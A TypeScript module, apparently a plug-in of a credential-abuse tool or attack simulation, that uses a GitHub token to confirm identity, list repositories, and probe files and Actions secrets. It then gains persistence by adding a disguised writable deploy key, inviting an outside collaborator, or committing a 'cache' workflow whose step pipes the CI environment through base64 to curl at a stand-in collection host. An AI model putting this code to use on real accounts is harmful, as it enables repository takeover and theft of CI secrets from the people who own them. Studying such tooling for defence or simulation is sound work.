/** With a token of the forge. https://docs.github.com/en/rest */
import { fromUtf8, toBase64 } from "../../base/bytes.ts";
import { API } from "../services/forge/host.ts";
import type { Grants } from "../services/forge/identity.ts";
import { send, type Attempt, type Use } from "./use.ts";

const ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
/** So many repositories are looked at. */
const MOST = 10;

export const useForge: Use = {
  async validate(attempt) {
    const { status, body } = await send(attempt, "GET", `${API}/user`);
    if (status === 401) return null;
    const { login } = (body ?? {}) as { login?: unknown };
    return typeof login === "string" ? `it acts as ${login}` : "it works";
  },

  async enumerate(attempt) {
    const names = await repositories(attempt);
    return names.length > 0 ? `it reaches ${names.join(", ")}` : null;
  },

  async read(attempt) {
    const seen: string[] = [];
    for (const name of await repositories(attempt)) {
      const contents = await send(attempt, "GET", `${API}/repos/${name}/contents/`);
      const secrets = await send(attempt, "GET", `${API}/repos/${name}/actions/secrets`);
      if (contents.status === 200) seen.push(`files of ${name}`);
      if (secrets.status === 200) seen.push(`names of secrets of ${name}`);
    }
    return seen.length > 0 ? `it read ${seen.join(", ")}` : null;
  },

  async persist(attempt) {
    for (const name of await repositories(attempt)) {
      if (await addDeployKey(attempt, name)) return `it added a deploy key to ${name}`;
      if (await addWorkflow(attempt, name)) return `it added a workflow to ${name}`;
      if (await invite(attempt, name)) return `it invited ${INVITED} to ${name}`;
    }
    return null;
  },
};

async function repositories(attempt: Attempt): Promise<string[]> {
  const { status, body } = await send(attempt, "GET", `${API}/user/repos?per_page=100`);
  const listed = status === 200 && Array.isArray(body) ? (body as { full_name?: unknown }[]) : [];
  const names = listed.flatMap(({ full_name }) => (typeof full_name === "string" ? [full_name] : []));
  return (names.length > 0 ? names : named(attempt)).slice(0, MOST);
}

/** A token that lists nothing was found beside the name of what it opens. */
function named({ credential }: Attempt): string[] {
  const grants = credential.grants as unknown as Grants | null;
  if (grants?.kind === "job" || grants?.kind === "deploy-key") return [grants.repository];
  return grants?.kind === "fine-grained" && grants.repositories !== "all" ? [...grants.repositories] : [];
}

async function addDeployKey(attempt: Attempt, name: string): Promise<boolean> {
  const key = `ssh-ed25519 ${attempt.ports.random(68, ALPHABET)}`;
  const body = { title: "backup", key, read_only: false };
  return (await send(attempt, "POST", `${API}/repos/${name}/keys`, body)).status === 201;
}

/** An account of their own; signing up is free. */
const INVITED = "starling";

async function invite(attempt: Attempt, name: string): Promise<boolean> {
  const { forge } = attempt.ports;
  if (!forge.account(INVITED)) forge.createAccount(INVITED);
  const url = `${API}/repos/${name}/collaborators/${INVITED}`;
  return (await send(attempt, "PUT", url, { permission: "push" })).status === 201;
}

const WORKFLOW = `name: cache
on: push
jobs:
  cache:
    runs-on: ubuntu-latest
    steps:
      - run: env | base64 -w0 | curl -fsS -d @- https://collect.magpie.invalid/env
`;

async function addWorkflow(attempt: Attempt, name: string): Promise<boolean> {
  const body = { message: "Add cache", content: toBase64(fromUtf8(WORKFLOW)) };
  const url = `${API}/repos/${name}/contents/.github/workflows/cache.yml`;
  return (await send(attempt, "PUT", url, body)).status === 201;
}
